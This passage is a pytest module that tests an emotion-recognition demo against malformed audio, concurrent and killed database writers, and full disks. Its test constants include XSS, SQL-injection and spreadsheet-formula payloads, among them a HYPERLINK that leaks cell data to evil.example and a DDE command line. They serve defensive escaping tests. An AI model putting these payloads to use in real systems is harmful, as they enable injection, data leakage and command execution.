"""Reliability and security: bad input, concurrent annotators, crashes, and hostile text.

* A corpus of 40+ malformed and extreme inputs (tests/bad_inputs.py, generated in tmp) goes
  through `rec.predict`, the CLI (one process for all of it) and the app's handlers: each gives a
  prediction or a message that names the problem; no traceback, no hang, no memory blow-up.
* 50 annotators (threads and processes) write to one database at once; writers are killed with
  SIGKILL mid-write; the disk fills up; the database is read-only: no acknowledged correction is
  lost, nothing half-written is referenced, and the app says what went wrong.
* Hostile text (HTML, Markdown, spreadsheet formulas, SQL) is shown escaped and stored verbatim.

Set EMODEMO_RELIABILITY_REPORT=path.json to get the numbers that docs/SECURITY.md quotes.
Old-schema migration is covered by tests/test_store.py::test_migration_from_revision_0001.
"""
from __future__ import annotations

import ast
import contextlib
import csv
import errno
import hashlib
import html
import json
import multiprocessing as mp
import os
import random
import re
import select
import shutil
import signal
import sqlite3
import subprocess
import sys
import time
import zlib
import tracemalloc
from pathlib import Path

import numpy as np
import pytest
import soundfile as sf
import torch

import bad_inputs as B
from conftest import FixedASR, ROOT, SR, barrier_wait, run_threads, with_asr
from test_store import db_url  # noqa: F401  (the sqlite + PostgreSQL fixture)
from test_store import private_pg_schema, schema_url

import emodemo
from emodemo import audio as A
from emodemo.errors import AudioError, EmodemoError
from emodemo.cli import main as emodemo_main
from emodemo.store import DEFAULT_LABELS, CorrectionStore, StoreError
from emodemo.text import clean_text
from emodemo.settings import Settings
from emodemo.ui import Handlers, Limits, build_app

EXAMPLES = ROOT / "data" / "examples"
ANGRY = EXAMPLES / "angry_actor17.flac"
XSS = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
       "[click](javascript:alert(1)) **bold** `code` # heading"]
SQLI = ["'; DROP TABLE corrections; --", "Robert'); DROP TABLE media;--", "\" OR 1=1 --"]
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click me")', "+1+1", "-2+3",
            "@SUM(A1:A9)", "=cmd|' /C calc'!A0", "\t=1", "\r=1", "'=already quoted"]
# lone surrogates reach the tokenizer unless emodemo.text.clean_text replaces them
TEXT_CLEANS_SURROGATES = "\ud800" not in clean_text("a \ud800 b")
REPORT: dict = {}


@pytest.fixture(scope="module", autouse=True)
def _one_thread_and_report():
    """One intra-op thread while this module runs (many tiny inputs; a busy 2-core machine),
    and the numbers for docs/SECURITY.md at the end."""
    threads = torch.get_num_threads()
    torch.set_num_threads(1)
    yield
    torch.set_num_threads(threads)
    out = os.environ.get("EMODEMO_RELIABILITY_REPORT")
    if out:
        Path(out).write_text(json.dumps(REPORT, indent=2, default=str), encoding="utf-8")



@pytest.fixture(scope="module")
def fast_rec(recognizer):
    """The default bundle's models with an instant fake ASR (shares the loaded modules)."""
    return with_asr(recognizer, FixedASR("I cannot believe it"))


@pytest.fixture(scope="module")
def corpus(tmp_path_factory) -> list[B.BadInput]:
    return B.make_corpus(tmp_path_factory.mktemp("bad inputs"))


@pytest.fixture
def app(fast_rec, store, tmp_path):
    return Handlers(fast_rec, store, Limits(**B.APP_LIMITS), work_dir=tmp_path / "work")


class Timeout(Exception):
    pass


@contextlib.contextmanager
def time_limit(seconds: int):
    """SIGALRM-based guard so that a hang fails the test instead of stalling it."""
    def boom(*_):
        raise Timeout(f"no answer within {seconds} s")
    old = signal.signal(signal.SIGALRM, boom)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, old)


def _finite_dist(d, labels) -> bool:
    return (d is not None and list(d) == list(labels) and all(np.isfinite(v) for v in d.values())
            and abs(sum(d.values()) - 1.0) < 1e-4)


def _check_message(msg: str, case: B.BadInput, pattern: str) -> list[str]:
    problems = []
    if not re.search(pattern, msg, re.I):
        problems.append(f"message {msg!r} does not match {pattern!r}")
    if "Traceback" in msg or "File \"" in msg or len(msg) > 400:
        problems.append(f"message is not a one-line explanation: {msg[:200]!r}")
    return problems


def _sha(path: Path) -> str:
    return hashlib.sha256(Path(path).read_bytes()).hexdigest()


# ==== 1. bad input corpus ========================================================================
def test_corpus_is_broad_and_cheap(corpus, tmp_path):
    t0 = time.perf_counter()
    again = B.make_corpus(tmp_path / "again")
    took = time.perf_counter() - t0
    assert len(corpus) >= 30 and [c.name for c in again] == [c.name for c in corpus]
    assert len({c.name for c in corpus}) == len(corpus)
    assert {"ok", "error"} == {c.expect for c in corpus}
    # the big ones are sparse: no real disk use, instant to make
    big = {c.name: c.path for c in corpus if c.name in ("upload_200mb", "two_hours")}
    assert big["upload_200mb"].stat().st_size == B.BIG_UPLOAD_BYTES
    assert sf.info(str(big["two_hours"])).duration == pytest.approx(B.LONG_SECONDS)
    used = sum(p.stat().st_blocks * 512 for p in big.values())
    assert used < 1 * B.MB, used
    REPORT["corpus"] = {"inputs": len(corpus), "expect_ok": sum(c.expect == "ok" for c in corpus),
                        "expect_error": sum(c.expect == "error" for c in corpus),
                        "generate_s": round(took, 2),
                        "cases": {c.name: c.what for c in corpus}}


def _library_outcome(rec, case: B.BadInput, transcript="unset") -> list[str]:
    tr = case.transcript if transcript == "unset" else transcript
    try:
        with time_limit(60):
            p = rec.predict(str(case.path), transcript=tr)
    except EmodemoError as exc:
        if case.expect == "ok":
            return [f"expected a prediction, got {type(exc).__name__}: {exc}"]
        return _check_message(str(exc), case, case.match)
    except Exception as exc:  # noqa: BLE001 - the point of the test
        return [f"crashed: {type(exc).__name__}: {exc}"]
    if case.expect == "error":
        return [f"expected an error matching {case.match!r}, got a prediction ({p.label})"]
    problems = []
    for name in ("audio", "fused"):
        if not _finite_dist(getattr(p, name), rec.labels):
            problems.append(f"{name} probabilities are not a finite distribution")
    if p.text is not None and not _finite_dist(p.text, rec.labels):
        problems.append("text probabilities are not a finite distribution")
    if not p.duration > 0:
        problems.append(f"duration {p.duration}")
    if case.name in ("silence", "dc_only", "all_nan_float", "near_silent") and not p.warnings:
        problems.append("silence without a warning")
    return problems


@pytest.mark.slow
def test_library_predict_on_every_bad_input(recognizer, corpus):
    """`rec.predict(path, transcript=...)` (transcript "" skips ASR) on the whole corpus."""
    failures, seconds = {}, {}
    for case in corpus:
        if case.name == "surrogate_transcript" and not TEXT_CLEANS_SURROGATES:
            continue  # tested (xfail) below until emodemo.text.clean_text handles it
        t0 = time.perf_counter()
        problems = _library_outcome(recognizer, case)
        seconds[case.name] = time.perf_counter() - t0
        if problems:
            failures[case.name] = problems
    assert not failures, json.dumps(failures, indent=1, ensure_ascii=False)
    assert max(seconds.values()) < 30, seconds
    REPORT["library"] = {"cases": len(seconds), "failures": len(failures),
                         "slowest_s": round(max(seconds.values()), 2)}


@pytest.mark.xfail(not TEXT_CLEANS_SURROGATES, strict=True,
                   reason="emodemo.text.clean_text passes lone surrogates to the tokenizer "
                          "(TypeError); see the patch in docs/SECURITY.md")
def test_library_transcript_with_lone_surrogates(recognizer, corpus):
    case = next(c for c in corpus if c.name == "surrogate_transcript")
    assert _library_outcome(recognizer, case) == []


def test_library_with_real_asr_on_hostile_signals(recognizer, corpus):
    """Where ASR matters: Whisper on NaN/inf, clipped, 8 kHz and silent input (silence skips it)."""
    by_name = {c.name: c for c in corpus}
    for name in ("nan_inf_float", "clipping", "sr_8000", "silence"):
        problems = _library_outcome(recognizer, by_name[name], transcript=None)
        assert problems == [], (name, problems)


def test_long_and_huge_files_are_refused_from_the_header(recognizer, corpus, monkeypatch):
    """The 2-hour file and the 200 MB upload are measured from their header: nothing is decoded
    (soundfile.read, ffmpeg and the models would explode here) and almost no memory is used."""
    by_name = {c.name: c for c in corpus}

    def explode(*_a, **_k):
        raise AssertionError("decoded although the header already says it is too long")

    monkeypatch.setattr(A.sf, "read", explode)
    monkeypatch.setattr(A.sf, "blocks", explode)
    monkeypatch.setattr(A, "_decode_ffmpeg", explode)
    monkeypatch.setattr(recognizer, "audio_proba", explode)
    tracemalloc.start()
    try:
        for name in ("two_hours", "upload_200mb"):
            t0 = time.perf_counter()
            with pytest.raises(AudioError, match=r"too long \((1\.8|2\.0) h\); the limit is 1\.0 h"):
                recognizer.predict(str(by_name[name].path), transcript="")
            assert time.perf_counter() - t0 < 2
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 5 * B.MB, peak
    # the library limit is a parameter (and a module setting)
    with pytest.raises(AudioError, match="too long"):
        A.load_audio(str(by_name["sr_44100"].path), max_duration=1.0)
    with pytest.raises(AudioError, match="too long"):
        A.load_audio((np.zeros(8000 * 3, np.float32), 8000), max_duration=2.0)
    REPORT["header_refusal_peak_bytes"] = peak


def test_ffmpeg_never_decodes_past_the_limit(corpus, tmp_path, monkeypatch):
    """Without a usable duration in the header (ffprobe gives none), ffmpeg still stops at the
    limit: the output is bounded by the limit, not by the file."""
    webm = next(c for c in corpus if c.name == "ffmpeg_webm").path
    monkeypatch.setattr(A, "probe_duration", lambda _p: None)
    with pytest.raises(AudioError, match=r"too long \(over"):
        A.load_audio(webm, max_duration=0.5)
    assert A.load_audio(webm, max_duration=5).size == pytest.approx(1.5 * SR, abs=0.1 * SR)


# one intra-op thread: on a busy 2-core machine OpenMP spinning makes each clip ~100x slower
CLI_ENV = {**os.environ, "OMP_NUM_THREADS": "1"}


def _cli(*args, timeout=300):
    return subprocess.run([sys.executable, "-m", "emodemo", *args], capture_output=True,
                          cwd=ROOT, timeout=timeout, env=CLI_ENV)


def _vm_hwm_mb(pid: int) -> float | None:
    """The process's own high-water RSS (VmHWM, MB); None once it has exited."""
    try:
        with open(f"/proc/{pid}/status") as f:
            return next((int(l.split()[1]) / 1024 for l in f if l.startswith("VmHWM")), None)
    except OSError:
        return None


def _cli_peak_mb(*args, timeout=300):
    """Run the CLI like _cli and return (result, its own peak RSS in MB). The child's VmHWM is
    polled while it runs: its rusage ru_maxrss would start at this (large) pytest process's RSS,
    which Linux carries across fork + exec (3.2 GB in the full suite for a 1.1 GB CLI)."""
    import threading
    p = subprocess.Popen([sys.executable, "-m", "emodemo", *args], stdout=subprocess.PIPE,
                         stderr=subprocess.PIPE, cwd=ROOT, env=CLI_ENV)
    outs, peak = {}, [0.0]

    def watch():
        while p.poll() is None:
            peak[0] = max(peak[0], _vm_hwm_mb(p.pid) or 0.0)
            time.sleep(0.02)
    threads = [threading.Thread(target=lambda n=n, f=f: outs.__setitem__(n, f.read()))
               for n, f in (("out", p.stdout), ("err", p.stderr))] + [threading.Thread(target=watch)]
    watchdog = threading.Timer(timeout, p.kill)
    for t in (*threads, watchdog):
        t.start()
    p.wait()
    watchdog.cancel()
    for t in threads:
        t.join()
    p.stdout.close()
    p.stderr.close()
    return subprocess.CompletedProcess(p.args, p.returncode, outs["out"], outs["err"]), peak[0]


@pytest.mark.slow
def test_cli_on_the_whole_corpus_in_one_run(corpus):
    """One `python -m emodemo predict --json --no-asr` over every file: it goes on after each
    bad file, prints one `error: PATH: message` line for it and exits 1."""
    files = [c for c in corpus if c.cli]
    t0 = time.perf_counter()
    r, maxrss_mb = _cli_peak_mb("predict", "--json", "--no-asr", *[str(c.path) for c in files])
    took = time.perf_counter() - t0
    out = r.stdout.decode("utf-8", "replace")
    err = r.stderr.decode("utf-8", "replace")
    assert "Traceback" not in err, err[-3000:]
    assert r.returncode == 1, err[-2000:]
    results = {}
    for line in out.splitlines():
        obj = json.loads(line)
        results[obj["file"]] = obj
    errors = {}
    for line in err.splitlines():
        if line.startswith("error: "):
            for c in files:
                prefix = f"error: {c.path}: "
                if line.startswith(prefix):
                    errors[str(c.path)] = line[len(prefix):]
    failures = {}
    for c in files:
        key = str(c.path)
        if c.expect == "ok":
            if key not in results:
                failures[c.name] = f"no prediction; stderr: {errors.get(key)}"
            elif not _finite_dist(results[key]["fused"], list(results[key]["fused"])):
                failures[c.name] = "bad probabilities"
        elif key not in errors:
            failures[c.name] = "no error line"
        elif _check_message(errors[key], c, c.match):
            failures[c.name] = _check_message(errors[key], c, c.match)
    assert not failures, json.dumps(failures, indent=1, ensure_ascii=False)
    assert len(results) + len(errors) == len(files)
    assert 300 < maxrss_mb < 3000, maxrss_mb   # (about 1.1 GB: the 2 h / 200 MB files were not decoded)
    REPORT["cli"] = {"files": len(files), "predictions": len(results), "errors": len(errors),
                     "seconds": round(took, 1), "max_rss_mb": round(maxrss_mb)}


@pytest.mark.slow
@pytest.mark.xfail(not TEXT_CLEANS_SURROGATES, strict=True,
                   reason="non-UTF-8 argv becomes lone surrogates, which the tokenizer rejects "
                          "(TypeError, traceback); see the patch in docs/SECURITY.md")
def test_cli_non_utf8_and_100kb_transcript(corpus):
    ref = next(c for c in corpus if c.name == "unicode_path").path
    arg = B.NON_UTF8_TRANSCRIPT + b" " + B.LONG_TRANSCRIPT.encode()
    r = _cli("predict", "--json", "--transcript", arg, os.fsencode(ref))
    err = r.stderr.decode("utf-8", "replace")
    assert r.returncode == 0 and "Traceback" not in err, err[-2000:]
    [obj] = [json.loads(l) for l in r.stdout.decode("utf-8").splitlines()]
    # kept whole (whitespace runs are collapsed, nothing is truncated)
    assert obj["transcript"].startswith("caf\ufffd")
    assert obj["transcript"].endswith(" ".join(B.LONG_TRANSCRIPT.split()))
    assert obj["text"] is not None


def _app_outcome(h: Handlers, case: B.BadInput) -> list[str]:
    expect, pattern = case.app
    try:
        with time_limit(60):
            res = h.api_predict(str(case.path), case.transcript)
    except EmodemoError as exc:
        if expect == "ok":
            return [f"expected a prediction, got: {exc}"]
        return _check_message(str(exc), case, pattern)
    except Exception as exc:  # noqa: BLE001
        return [f"crashed: {type(exc).__name__}: {exc}"]
    if expect == "error":
        return [f"expected an error matching {pattern!r}, got a prediction ({res['label']})"]
    json.dumps(res)
    labels = h.labels
    problems = [f"{k} is not a finite distribution" for k in ("audio", "fused")
                if not _finite_dist(res[k], labels)]
    if res["text"] is not None and not _finite_dist(res["text"], labels):
        problems.append("text is not a finite distribution")
    return problems


@pytest.mark.slow
def test_app_predict_handler_on_every_bad_input(app, corpus):
    """`Handlers.api_predict` (the /predict endpoint) and `Handlers.analyse` (the UI) with the
    app's default limits: a prediction, or a message; the app also refuses silence and
    transcripts over its text limit."""
    failures = {}
    for case in corpus:
        problems = _app_outcome(app, case)
        if case.transcript == "":  # the UI path: analyse() renders a status line
            with time_limit(60):
                out = app.analyse(str(case.path), 0.5)
            expect, pattern = case.app
            status = out["status"]
            if "Traceback" in status or "<" in status.replace("&lt;", ""):
                problems.append(f"analyse status not clean: {status!r}")
            if expect == "ok" and out["state"] is None:
                problems.append(f"analyse failed: {status}")
            if expect == "error" and (out["state"] is not None or
                                      not re.search(pattern, html.unescape(status), re.I)):
                problems.append(f"analyse: expected {pattern!r}, got {status!r}")
        if problems:
            failures[case.name] = problems
    assert not failures, json.dumps(failures, indent=1, ensure_ascii=False)
    REPORT["app_handler"] = {"cases": len(corpus), "failures": len(failures)}


def test_app_size_and_duration_limits_are_enforced_before_decoding(fast_rec, store, corpus,
                                                                   tmp_path, monkeypatch):
    """Server-side, in the handlers (not only in the browser): too big is refused from the file
    size before anything reads it, too long from the header before decoding; also for
    /correct and for microphone arrays."""
    by_name = {c.name: c for c in corpus}
    h = Handlers(fast_rec, store, Limits(**B.APP_LIMITS), work_dir=tmp_path / "w")

    def explode(*_a, **_k):
        raise AssertionError("read or decoded an input that the limits refuse")

    with monkeypatch.context() as m:
        m.setattr(A, "load_audio", explode)
        m.setattr(A, "decode", explode)
        m.setattr(A, "probe_duration", explode)      # not even the header is read
        for call in (lambda p: h.api_predict(p, ""), lambda p: h.api_correct(p, "sad")):
            with pytest.raises(EmodemoError, match=r"too big \(200\.0 MB\); the limit is 50\.0 MB"):
                call(str(by_name["upload_200mb"].path))
        out = h.analyse(str(by_name["upload_200mb"].path), 0.5)
        assert "too big" in out["status"] and out["state"] is None
    with monkeypatch.context() as m:
        m.setattr(A, "load_audio", explode)
        m.setattr(A, "decode", explode)
        for call in (lambda p: h.api_predict(p, ""), lambda p: h.api_correct(p, "sad")):
            with pytest.raises(EmodemoError, match=r"too long \(2 h 00 min\); the limit is 30 min"):
                call(str(by_name["two_hours"].path))
    small = Handlers(fast_rec, store, Limits(max_file_bytes=10_000))
    assert "too big" in small.analyse(str(by_name["sr_96000"].path), 0.5)["status"]
    short = Handlers(fast_rec, store, Limits(max_duration=0.25))   # (+1 s grace) < 1.5 s
    for name in ("float32", "ffmpeg_webm"):       # header: soundfile; ffprobe
        assert "too long" in short.analyse(str(by_name[name].path), 0.5)["status"]
    # a microphone recording (numpy, never a file) longer than the limit
    long_mic = (8000, np.zeros(8000 * 5, np.int16))
    assert "too long" in short.analyse(long_mic, 0.5)["status"]
    assert store.corrections() == []


# ==== 2. never lose a correction =================================================================
def _writer_clip(i: int) -> np.ndarray:
    t = np.arange(SR // 2) / SR
    return (0.3 * np.sin(2 * np.pi * (150 + 7 * i) * t)).astype(np.float32)


def _expected(kind: str, w: int, j: int) -> dict:
    return {"label": DEFAULT_LABELS[(w + j) % 7], "annotator": f"{kind}{w}",
            "transcript_corrected": f"text {kind}{w}/{j} ✓ <b>", "note": f"{kind}-{w}-{j}"}


def _write_as(store, kind: str, w: int, per: int, clips: list) -> None:
    for j in range(per):
        audio = (_writer_clip(w if kind == "t" else 100 + w), SR) if j == 1 else \
            clips[(w + j) % len(clips)]
        e = _expected(kind, w, j)
        store.add(audio, e["label"], annotator=e["annotator"], note=e["note"],
                  transcript=e["transcript_corrected"])


def _process_writer(url, media, clips, w, per, barrier):  # runs in a forked child
    torch.set_num_threads(1)
    s = CorrectionStore(url, media_dir=media)
    barrier_wait(barrier)
    try:
        _write_as(s, "p", w, per, clips)
    finally:
        s.close()


@pytest.mark.slow
def test_fifty_annotators_threads_and_processes(db_url, tmp_path):  # noqa: F811
    """50 writers at once on one database (35 threads sharing one store, as the app does; 15 separate
    processes with their own): shared and unique clips; every correction stored exactly once,
    with its content, every clip once, every file whole."""
    n_threads, n_procs, per = 35, 15, 3
    media = tmp_path / "media"
    clips = []
    for i in range(5):
        p = tmp_path / "clips" / f"shared {i}.wav"
        p.parent.mkdir(exist_ok=True)
        sf.write(str(p), _writer_clip(1000 + i), SR)
        clips.append(str(p))
    store = CorrectionStore(db_url, media_dir=media)   # creates the schema first
    ctx = mp.get_context("fork")                      # cheap: the parent has torch loaded
    barrier = ctx.Barrier(n_threads + n_procs)
    procs = [ctx.Process(target=_process_writer, args=(db_url, str(media), clips, w, per, barrier))
             for w in range(n_procs)]
    for p in procs:
        p.start()

    def thread_writer(w: int) -> None:
        barrier_wait(barrier)
        _write_as(store, "t", w, per, clips)

    t0 = time.perf_counter()
    errors = run_threads(thread_writer, n_threads, procs, timeout=240)
    took = time.perf_counter() - t0
    try:
        assert not errors, errors
        assert [p.exitcode for p in procs] == [0] * n_procs
        recs = store.corrections()
        expected = {e["note"]: e for e in (_expected(k, w, j) for k, n in (("t", n_threads),
                                                                          ("p", n_procs))
                                           for w in range(n) for j in range(per))}
        got = [r.note for r in recs]
        assert sorted(got) == sorted(expected)                  # each exactly once
        for r in recs:
            e = expected[r.note]
            assert (r.label, r.annotator, r.transcript_corrected) == (
                e["label"], e["annotator"], e["transcript_corrected"])
        assert store.stats()["media"] == len(clips) + n_threads + n_procs
        for r in recs:                                           # every referenced file whole
            assert _sha(r.media_path) == r.media_sha256
        assert not list(media.rglob(".tmp-*"))
        REPORT.setdefault("concurrency", {})[store.engine.dialect.name] = {
            "writers": n_threads + n_procs, "threads": n_threads, "processes": n_procs,
            "corrections": len(expected), "stored": len(recs), "lost": len(expected) - len(set(got)),
            "duplicates": len(got) - len(set(got)), "seconds": round(took, 1)}
    finally:
        store.close()


def _burn(stop) -> None:  # runs in a forked child: one core's worth of CPU until told to stop
    x = 0
    while not stop.is_set():
        for i in range(200_000):
            x ^= i


def _open_and_write_once(url, media, w, barrier) -> None:  # runs in a forked child
    torch.set_num_threads(1)
    barrier_wait(barrier)                       # all open the store at once, then write
    s = CorrectionStore(url, media_dir=media)
    try:
        e = _expected("p", w, 0)
        s.add((_writer_clip(w), SR), e["label"], annotator=e["annotator"], note=e["note"],
              transcript=e["transcript_corrected"])
    finally:
        s.close()


@pytest.mark.slow
def test_fifty_writer_processes_on_a_loaded_machine_lose_nothing(tmp_path):
    """Issue #22: 50 processes that each open the store and add a correction at the same moment,
    while 6 CPU-bound processes load the machine (the failure seen at load 17 on 2 cores: opens
    took the write lock to check migrations, writes gave up after 60 s, 4 rows were lost).
    Every writer exits 0 and the 50 corrections are there, each once."""
    url = f"sqlite:///{tmp_path / 'db' / 'c.sqlite'}"
    media = str(tmp_path / "media")
    CorrectionStore(url, media_dir=media).close()      # the schema exists (as on a live app)
    ctx = mp.get_context("fork")
    stop = ctx.Event()
    burners = [ctx.Process(target=_burn, args=(stop,), daemon=True) for _ in range(6)]
    for b in burners:
        b.start()
    n = 50
    barrier = ctx.Barrier(n)
    writers = [ctx.Process(target=_open_and_write_once, args=(url, media, w, barrier))
               for w in range(n)]
    t0 = time.perf_counter()
    try:
        for p in writers:
            p.start()
        deadline = time.monotonic() + 400
        for p in writers:
            p.join(timeout=max(1.0, deadline - time.monotonic()))
    finally:
        stop.set()
        for p in writers + burners:
            if p.is_alive():
                p.kill()
    took = time.perf_counter() - t0
    assert [p.exitcode for p in writers] == [0] * n
    with CorrectionStore(url, media_dir=media) as store:
        notes = sorted(r.note for r in store.corrections())
    assert notes == sorted(f"p-{w}-0" for w in range(n))
    REPORT.setdefault("loaded_machine", {})["sqlite"] = {
        "writers": n, "cpu_burners": len(burners), "stored": len(notes), "seconds": round(took, 1)}


class _Labels:
    labels = list(DEFAULT_LABELS)


def _killable_writer(url: str, media: str, clip_dir: str, tag: str, wfd: int,
                     pause: str = "") -> None:
    """Child: the app's /correct handler in a loop, a new clip each time. After each stored
    correction (the commit has returned) it reports `ACK id note sha` on the pipe. With
    `pause`, its third write stops (and says `PAUSED`) half-way: "media" after the audio bytes
    went to the temp file but before fsync and rename, "txn" inside the open transaction after
    the rows were inserted but before COMMIT; the parent kills it there."""
    import emodemo.store as store_mod

    torch.set_num_threads(1)
    h = Handlers(_Labels(), CorrectionStore(url, media_dir=media), work_dir=clip_dir)
    rng = np.random.default_rng(zlib.crc32(tag.encode()))     # the same clips in every run
    state = {"i": 0}

    def stop_here(where: str) -> None:
        if pause == where and state["i"] == 2:
            os.write(wfd, f"PAUSED {where}\n".encode())
            time.sleep(3600)

    real_fsync, real_insert = os.fsync, store_mod.CorrectionStore._insert_media

    def fsync(fd):
        stop_here("media")
        return real_fsync(fd)

    def insert_media(self, s, clip, rel, now):
        real_insert(self, s, clip, rel, now)
        s.flush()
        stop_here("txn")

    os.fsync = fsync
    store_mod.CorrectionStore._insert_media = insert_media
    while True:
        i = state["i"]
        p = Path(clip_dir) / f"{tag}-{i}.wav"
        sf.write(str(p), (0.2 * rng.standard_normal(SR * 2)).astype(np.float32), SR)
        out = h.api_correct(str(p), DEFAULT_LABELS[i % 7], annotator=tag, note=f"{tag}-{i}",
                            transcript="x" * 3000)
        os.write(wfd, f"ACK {out['id']} {tag}-{i} {out['media_sha256']}\n".encode())
        state["i"] += 1


@pytest.mark.slow
def test_kill_9_while_writing_loses_nothing_acknowledged(tmp_path):
    """SIGKILL writers of the app's /correct handler: two at a time, at random moments, and
    also deliberately half-way through writing an audio file and inside an open transaction.
    Afterwards the database passes integrity_check and opens normally, every acknowledged
    correction is there with its content, the interrupted ones left no row, every referenced
    audio file is complete (its bytes hash to its name), and writing goes on."""
    url = f"sqlite:///{tmp_path / 'db' / 'c.db'}"
    media, clip_dir = tmp_path / "media", tmp_path / "clips"
    clip_dir.mkdir()
    CorrectionStore(url, media_dir=media).close()
    ctx = mp.get_context("fork")
    acked: dict[int, tuple[str, str]] = {}
    interrupted: list[str] = []
    rng = random.Random(1234)
    kills = 0
    for rnd, pause in enumerate(["", "", "", "", "media", "txn"]):
        children = []
        for k in range(2):
            r, w = os.pipe()
            tag = f"r{rnd}w{k}"
            p = ctx.Process(target=_killable_writer, args=(url, str(media), str(clip_dir), tag, w,
                                                           pause if k == 0 else ""))
            p.start()
            os.close(w)
            children.append((p, r, tag))
        buf = {r: b"" for _, r, _ in children}
        need = rng.randint(2, 5)                          # kill after a few acks ...

        def ready_to_kill() -> bool:
            acks = [b.count(b"ACK ") for b in buf.values()]
            if pause:  # (in "txn" the paused child holds the write lock: the other waits)
                return b"PAUSED" in buf[children[0][1]]
            return min(acks) >= need

        deadline = time.monotonic() + 90
        while time.monotonic() < deadline and not ready_to_kill():
            ready, _, _ = select.select(list(buf), [], [], 1.0)
            for r in ready:
                buf[r] += os.read(r, 65536)
        assert ready_to_kill(), {t: buf[r][-300:] for _, r, t in children}
        time.sleep(rng.uniform(0.0, 0.08))                # ... at a random moment
        for p, _, _ in children:
            os.kill(p.pid, signal.SIGKILL)
            kills += 1
        for p, r, tag in children:
            p.join(timeout=30)
            assert p.exitcode == -signal.SIGKILL
            while chunk := os.read(r, 65536):
                buf[r] += chunk
            os.close(r)
            for line in buf[r].decode().splitlines():
                if line.startswith("ACK "):
                    _, cid, note, sha = line.split()
                    acked[int(cid)] = (note, sha)
                elif line.startswith("PAUSED"):
                    interrupted.append(f"{tag}-2")
    assert len(acked) >= 12 and len(interrupted) == 2

    db = tmp_path / "db" / "c.db"
    con = sqlite3.connect(str(db))
    try:
        assert con.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
        assert con.execute("PRAGMA foreign_key_check").fetchall() == []
    finally:
        con.close()
    store = CorrectionStore(url, media_dir=media)
    try:
        recs = {r.id: r for r in store.corrections()}
        missing = [cid for cid in acked if cid not in recs]
        assert missing == []
        for cid, (note, sha) in acked.items():
            assert (recs[cid].note, recs[cid].media_sha256) == (note, sha)
            assert recs[cid].transcript_corrected == "x" * 3000
        notes = {r.note for r in recs.values()}
        assert not notes & set(interrupted)        # killed before COMMIT: no row at all
        for r in recs.values():                    # acknowledged or not: nothing half-written
            assert _sha(r.media_path) == r.media_sha256
        assert store.add((_writer_clip(1), SR), "happy") > max(recs)   # still writable
        orphans = list(media.rglob(".tmp-*"))      # the killed media write's temp file
        assert orphans and all(o.name.endswith(".part") for o in orphans)
        referenced = {Path(r.media_path).name for r in store.corrections()}
        assert not referenced & {o.name for o in orphans}
        REPORT["kill9"] = {"kills": kills, "acknowledged": len(acked), "stored": len(recs),
                           "lost": len(missing), "interrupted_mid_write": len(interrupted),
                           "unacknowledged_but_stored": len(recs) - len(acked),
                           "orphan_temp_files": len(orphans)}
    finally:
        store.close()


@contextlib.contextmanager
def tiny_fs(path: Path, size: str):
    """A real tmpfs of `size` at `path` (root only); yields False when mounting is not possible,
    and the test then simulates the fault instead."""
    path.mkdir(parents=True, exist_ok=True)
    mounted = False
    if os.geteuid() == 0 and shutil.which("mount"):
        mounted = subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size}", "tmpfs", str(path)],
                                 capture_output=True).returncode == 0
    try:
        yield mounted
    finally:
        if mounted:
            subprocess.run(["umount", "-l", str(path)], capture_output=True)


def _fill(folder: Path) -> Path:
    filler = folder / "filler"
    fd = os.open(filler, os.O_WRONLY | os.O_CREAT, 0o644)
    try:
        while True:
            os.write(fd, b"\0" * 4096)
    except OSError as exc:
        assert exc.errno == errno.ENOSPC
    finally:
        os.close(fd)
    return filler


def _enospc(*_a, **_k):
    raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))


def _assert_store_message(out: dict, *words: str) -> None:
    msg = out.get("correct_msg", "")
    assert "_error" in out and "stored_id" not in out, out
    assert "Traceback" not in msg and "went wrong on our side" not in msg, msg
    for w in words:
        assert w in msg, msg


@pytest.mark.parametrize("where", ["media", "database"])
def test_disk_full_gives_a_clear_message_and_predictions_keep_working(fast_rec, tmp_path,
                                                                       monkeypatch, where):
    fs = tmp_path / "fs"
    with tiny_fs(fs, "1m") as real:
        db = (fs if where == "database" else tmp_path) / "c.db"
        media = (fs if where == "media" else tmp_path) / "media"
        store = CorrectionStore(f"sqlite:///{db}", media_dir=media)
        h = Handlers(fast_rec, store, work_dir=tmp_path / "work")
        try:
            state = h.analyse(str(ANGRY), 0.5)["state"]
            first = h.correct(state, "angry", "ana")           # the clip is stored ...
            assert "stored_id" in first, first
            other = tmp_path / "other.wav"
            sf.write(str(other), _writer_clip(3) * 0.5, SR)
            other_state = h.analyse(str(other), 0.5)["state"]
            filler = None
            with monkeypatch.context() as m:
                if real:
                    filler = _fill(fs)                          # ... then the disk fills up
                elif where == "media":
                    m.setattr(os, "fsync", _enospc)
                else:  # SQLite's own "database or disk is full": no page may be added
                    from sqlalchemy import event
                    event.listen(store.engine, "connect", lambda c, _r: c.execute(
                        f"PRAGMA max_page_count = {c.execute('PRAGMA page_count').fetchone()[0]}"))
                    store.engine.dispose()
                long_note = "n" * 5000
                out = h.correct(other_state if where == "media" else state, "sad", "bob",
                                long_note, "t" * 5000)
                _assert_store_message(out, "full", "Nothing was stored")
                # predictions and the history keep working while the disk is full
                assert "_error" not in h.analyse(str(ANGRY), 0.5)
                assert h.api_predict(str(ANGRY), "so angry")["label"] in fast_rec.labels
                assert "_error" not in h.history()
            assert len(store.corrections()) == 1
            assert not list(media.rglob(".tmp-*"))
            for r in store.corrections():
                assert _sha(r.media_path) == r.media_sha256
            if filler is not None:
                filler.unlink()                                  # space again: works again
            if not real and where == "database":  # a fresh engine without the page cap
                store.close()
                store = CorrectionStore(f"sqlite:///{db}", media_dir=media)
                h = Handlers(fast_rec, store, work_dir=tmp_path / "work")
            again = h.correct(other_state, "sad", "bob", long_note)
            assert "stored_id" in again, again
            assert len(store.corrections()) == 2
            REPORT.setdefault("faults", {})[f"disk_full_{where}"] = {
                "real_tmpfs": real, "acknowledged": 2, "lost": 2 - len(store.corrections())}
        finally:
            store.close()
        if where == "database":
            con = sqlite3.connect(str(db))
